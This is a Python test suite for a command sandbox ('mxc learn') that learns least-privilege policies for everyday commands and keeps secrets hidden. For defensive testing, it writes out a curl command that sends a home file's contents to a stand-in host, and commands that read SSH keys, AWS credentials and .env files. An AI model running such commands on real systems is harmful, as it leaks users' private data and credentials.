#!/usr/bin/env python3
# tap: seconds=900
"""`mxc learn`: what it writes is enough for the command, and no more, in each
mode.

docs/learn.md has what the commands came to as a table: MXC_BLESS=1 writes it,
and each test holds its row to it."""

import json
import os
import shutil
import sys
sys.path.insert(0, os.path.dirname(os.path.abspath(__file__)) + '/../lib')
from tap import *  # noqa: E402,F403
from internet import WEB  # noqa: E402
from learning import *  # noqa: E402,F403
from tool_commands import ROWS, page_row, prepare, short, tree  # noqa: E402

PAGE = TOP / 'docs/learn.md'
# They go on only where they reach what they ask for.
REACH = ('curl', 'curl, by address', 'wget', 'python, a page', 'node, a page')
# They ask for a secret, or for what the options deny.
REFUSED = ('a denied file', 'openssl', 'ssh')
# What the options grant keeps it from being replaced.
KEPT = ('sed -i, of one file',)
NAMES = [n for n in ROWS if n not in REFUSED + KEPT]


def ours(report, here):
    """What a table shows: of this test, and not of this host."""
    for e in report['granted']:
        if (e['what'].startswith((here, f'HOME={here}')) or
                'example' in e['what'] or e['what'] == WEB) and not (
                    e['kind'] == 'deny' and not os.path.exists(e['what'])):
            yield e['option']


# --- commands of every day -------------------------------------------------

@cases([(name, name) for name in NAMES])
def what_it_learns_is_enough(name):
    here = os.path.abspath('.')
    command, _, options = prepare(ROWS[name])
    if options:
        options = ['--ro', options[1]]
    if name in REACH:
        options.append('--reach')
    r, report = learn('--out', 'p.json', *options, '--', 'sh', '-c', command)
    eq(r.status, 0, f'{r} {report}')
    asked = [] if name in REACH else granted(report, 'host', 'net')
    eq((report['passed'], report['tried'], report['partial']),
       (True, not asked, False), report)
    eq(json.loads(read('p.json')), report['policy'])
    # As it was before.
    for left in os.listdir('.'):
        if left in ('home', 'p.json', 'report', 'set-up'):
            continue
        shutil.rmtree(left) if os.path.isdir(left) else os.unlink(left)
    prepare(ROWS[name])
    under('p.json', 'sh', '-c', command).ok()
    is_held('p.json')
    cells = '<br>'.join(f'`{short(o, here)}`' for o in ours(report, here))
    page_row(PAGE, 'learnt', NAMES, name,
             f'| {name} | `{short(command, here)}` | {cells} |\n')


@cases([(name, name) for name in REFUSED])
def it_does_not_grant(name):
    command, cause, options = prepare(ROWS[name])
    r, report = learn('--out', 'p.json', *options, '--', 'sh', '-c', command)
    check(r.status != 0, r)
    has(left_out(report), cause)
    check(all(cause != e['what'] for e in report['granted'] if
              e['kind'] != 'deny'), report)
    check(under('p.json', 'cat', cause).status != 0)


@test
def a_build_in_its_own_directory():
    """What it writes is one grant, what it reads another."""
    here = project()
    write('p/Makefile', 'all: a.o\n\tmkdir -p out\n\tcp a.o out/\n')
    write('p/a.c', 'int f(void) { return 1; }\n')
    os.makedirs('p/out')
    r, report = learn('--out', '../p.json', '--', 'make', '-s', cwd='p')
    report = json.loads(read('p/report'))
    eq(r.status, 0, f'{r}')
    eq(granted(report, 'write'), [here])
    check(os.path.exists('p/out/a.o'))
    for name in ('p/a.o', 'p/out/a.o'):
        os.unlink(name)
    under(os.path.abspath('p.json'), 'make', '-s', cwd='p').ok()
    check(os.path.exists('p/out/a.o'))


@test
def where_it_writes_alone_is_writable():
    here = project()
    write('p/in/a', 'x')
    os.makedirs('p/out')
    r, report = learn('--out', '../p.json', '--json', '../report', '--', 'cp',
                      'in/a', 'out/b', cwd='p')
    report = json.loads(read('report'))
    eq(r.status, 0, f'{r}')
    eq((granted(report, 'read'), granted(report, 'write')),
       ([here], [f'{here}/out']))
    eq(report['rounds'], 2)
    entry = [e for e in report['granted'] if e['kind'] == 'write'][0]
    eq((entry['programs'], entry['round'], entry['option']),
       (['cp'], 1, f'--rw {here}/out'))
    has(entry['message'], f'making {here}/out/b (cp) was refused')


@test
def what_it_makes_beside_a_granted_file_is_not_lost():
    """Its directory is there, in memory, and takes it."""
    project()
    write('data/in', 'x')
    here = os.path.abspath('data')
    r, _ = learn('--out', '../p.json', '--json', '../report', '--', 'sh', '-c',
                 f'cat {here}/in && echo y > {here}/out', cwd='p')
    report = json.loads(read('report'))
    eq((r.status, read('data/out')), (0, 'y\n'), r)
    eq((granted(report, 'read'), granted(report, 'write')), ([], [here]))
    # Nothing was used of the directory that it started in.
    eq(left_out(report)[os.path.abspath('p')]['leftOut'],
       'nothing in it was used')
    os.unlink('data/out')
    under('p.json', 'sh', '-c', f'cat {here}/in && echo y > {here}/out').ok()
    eq(read('data/out'), 'y\n')


@test
def entries_of_one_directory_become_the_directory():
    for n in range(6):
        write(f'data/set/{n}', 'x')
    write('data/other/0', 'x')
    here = os.path.abspath('data')
    r, report = learn('--out', 'p.json', '--', 'cat',
                      *(f'{here}/set/{n}' for n in range(6)),
                      f'{here}/other/0')
    eq(r.status, 0, f'{r}')
    eq(granted(report, 'read'), [f'{here}/other/0', f'{here}/set'])


@test
def a_cache_is_granted_as_a_whole():
    write('home/.cache/tool/a/b', 'x')
    write('home/.cache/other/c', 'x')
    home = os.path.abspath('home')
    r, report = learn('--out', 'p.json', '--', 'cat',
                      f'{home}/.cache/tool/a/b')
    eq((r.status, granted(report, 'read')), (0, [f'{home}/.cache/tool']), r)


@cases([('removed', 'rm {}'), ('renamed', 'mv {} {}.old')])
def a_file_that_is_read_and_then(command):
    """What is granted by itself is a mount, and cannot go."""
    path = str(write('d/f', 'x'))
    r, report = learn('--out', 'p.json', '--', 'sh', '-c',
                      f'cat {path} && ' + command.replace('{}', path))
    eq((r.status, granted(report, 'read', 'write')),
       (0, [os.path.dirname(path)]), r)
    check(not os.path.exists(path))
    write('d/f', 'x')
    under('p.json', 'sh', '-c',
          f'cat {path} && ' + command.replace('{}', path)).ok()


@test
def a_file_that_is_there_is_granted_before_its_directory():
    """It is opened to be made where it is not there."""
    path = str(write('data/log', 'x'))
    r, report = learn('--out', 'p.json', '--ro', os.path.dirname(path), '--',
                      'sh', '-c', f'echo y >> {path}')
    eq((r.status, granted(report, 'write')), (0, [path]), r)


@test
def what_is_above_a_link_is_learnt_where_it_is():
    """And not the file that the text of its name says."""
    file = str(write('data/shared/conf', 'right'))
    write('p/shared/conf', 'wrong')
    os.makedirs('data/v2')
    here = os.path.abspath('.')
    os.symlink(f'{here}/data/v2', 'p/cur')
    r, report = learn('--out', 'p.json', '--ro', f'{here}/p', '--', 'cat',
                      f'{here}/p/cur/../shared/conf')
    eq((r.status, r.out), (0, 'right'), r)
    eq(granted(report, 'read'), [file, f'{here}/data/v2'])
    eq(under('p.json', 'cat', f'{here}/p/cur/../shared/conf').ok().out,
       'right')


@test
def a_command_that_asks_where_it_is():
    here = project()
    r, _ = learn('--out', '../p.json', '--json', '../report', '--', 'sh', '-c',
                 f'test "$(/bin/pwd)" = {here}', cwd='p')
    report = json.loads(read('report'))
    eq((r.status, report['passed'], report['tried'], granted(report, 'read')),
       (0, True, True, [here]), r)
    under('p.json', 'sh', '-c', f'test "$(/bin/pwd)" = {here}', cwd='p').ok()


# --- with everything but secrets in sight ----------------------------------

def seen(mode, name):
    """Learn a row's command in its own directory, beside a home; answers what
    the host had before and has now."""
    project()
    write('home/.ssh/id_rsa', SECRET_TEXT)
    os.chdir('p')
    command, _, _ = prepare(ROWS[name])
    before = tree('.')
    if name in REACH and 'observe' in mode:
        mode = [*mode, '--reach']
    r, _ = learn(*mode, '--json', '../report', '--out', '../p.json', '--',
                 'sh', '-c', command, home='../home')
    after = tree('.')
    os.chdir('..')
    report = json.loads(read('report'))
    eq((r.status, report['partial'], report['tried']), (0, False, False),
       f'{r} {report}')
    return r, report, command, before, after


@cases([(name, name) for name in (
    'git commit', 'make', 'gcc', 'python, sqlite', 'node, a log', 'npm run',
    'tar', 'unzip', 'gzip', 'sed -i', 'vim', 'curl')])
def what_it_observes_is_enough(name):
    _, report, command, before, after = seen(['--mode', 'observe'], name)
    eq(after, before, 'the host')
    under('p.json', 'sh', '-c', command, cwd='p').ok()
    is_held('p.json', 'p')


@cases([(name, name) for name in (
    'git commit', 'gcc', 'python, sqlite', 'curl, by address')])
def what_it_is_permitted_is_enough(name):
    r, report, command, _, _ = seen(
        ['--mode', 'permissive', '--allow-everything-while-learning'], name)
    eq(r.err.count('warning: --mode permissive'), 1, r)
    has(r.err, 'was not held back while it was learnt')
    eq(report['mode'], 'permissive')
    shutil.rmtree('p')
    os.makedirs('p')
    os.chdir('p')
    prepare(ROWS[name])
    os.chdir('..')
    under('p.json', 'sh', '-c', command, cwd='p').ok()
    is_held('p.json', 'p')


@cases([(m[1], m) for m in (
    ['--mode', 'observe'],
    ['--mode', 'permissive', '--allow-everything-while-learning'])])
def secrets_are_not_in_sight(mode):
    here = project()
    secrets = [str(write(n, SECRET_TEXT)) for n in (
        'home/.ssh/id_rsa', 'home/.aws/credentials', 'p/.env', 'p/sub/.env')]
    write('p/in/a', 'x')
    write('home/.toolrc', 'x')
    r, _ = learn(*mode, '--json', '../report', '--out', '../p.json', '--',
                 'sh', '-c', 'cat in/a ~/.toolrc; mkdir -p out/deep; '
                 'echo x > out/deep/b; cat ' + ' '.join(secrets), cwd='p')
    report = json.loads(read('report'))
    lacks(r.out, SECRET_TEXT)
    eq(granted(report, 'read'), [os.path.abspath('home/.toolrc')])
    eq(granted(report, 'write'), [here])
    eq(granted(report, 'cwd'), [here])
    eq(granted(report, 'env'), [f'HOME={os.path.abspath("home")}'])
    out = left_out(report)
    has(out, secrets[2])
    has(out[secrets[2]]['remedy'], f'--grant-secret {secrets[2]}')
    for secret in secrets:
        check(under('p.json', 'cat', secret, cwd='p').status != 0, secret)


@test
def what_is_observed_is_no_way_out():
    """What others execute is shown, and is not granted for writing."""
    project()
    write('home/.bashrc', 'mine')
    r, report = learn('--mode', 'observe', '--out', 'p.json', '--', 'sh', '-c',
                      'echo x >> ~/.bashrc')
    eq((r.status, read('home/.bashrc')), (0, 'mine'), r)
    eq(granted(report, 'write'), [])
    has(left_out(report)[os.path.abspath('home/.bashrc')]['leftOut'], 'shell')


@test
def observed_and_killed_it_leaves_nothing():
    write('home/file', 'old')
    before = tree('.')
    killed_when_ready('learn', '--mode', 'observe', '--out', 'p.json', '--',
                      'sh', '-c',
                      'echo new > ~/file; echo ready; exec sleep 100')
    eq(tree('.'), before)


# --- the network -----------------------------------------------------------

@cases([('deny', []), ('observe', ['--mode', 'observe'])])
def nothing_goes_out_while_it_is_learnt(mode):
    """It reads in one round what it would send in the next."""
    note = str(write('home/Documents/x', 'mine'))
    send = (f'cat {note} >/dev/null || exit 1; '
            f'curl -sSf -m 5 http://example.test/$(cat {note}) -o /dev/null; '
            f'curl -sSf -m 5 http://{WEB}/$(cat {note}) -o /dev/null; '
            f'getent hosts mine.example.test; exit 3')
    net.host('sh', '-c', f'curl -sSf http://{WEB}/ -o /dev/null').ok()
    net.fresh()
    r, report = learn(*mode, '--out', 'p.json', '--', 'sh', '-c', send)
    eq(r.status, 3, r)
    net.nothing_came()
    eq(net.queries(), [])
    eq((report['passed'], report['tried']), (False, False), report)
    has(r.err, 'were not reached; --reach')
    eq(granted(report, 'net'), [WEB])
    check('example.test' in granted(report, 'host'), report)
    text = json.dumps(json.loads(read('p.json'))['network'])
    has(text, 'example.test')
    has(text, WEB)
    # That it is held back by nothing else.
    r, report = learn(*mode, '--out', 'q.json', '--reach', '--', 'sh', '-c',
                      f'curl -sSf http://{WEB}/ -o /dev/null')
    eq((r.status, report['tried']), (0, not mode), f'{r} {report}')
    eq(r.err.count('warning: --reach'), 2, r)
    has(' '.join(report['warnings']), '--reach')


@test
def what_the_caller_allows_is_reached():
    r, report = learn('--out', 'p.json', '--allow-host', 'example.test:80',
                      '--', 'curl', '-sSf', '-o', '/dev/null',
                      'http://example.test/')
    eq((r.status, report['tried'], granted(report, 'host')), (0, True, []), r)


main()
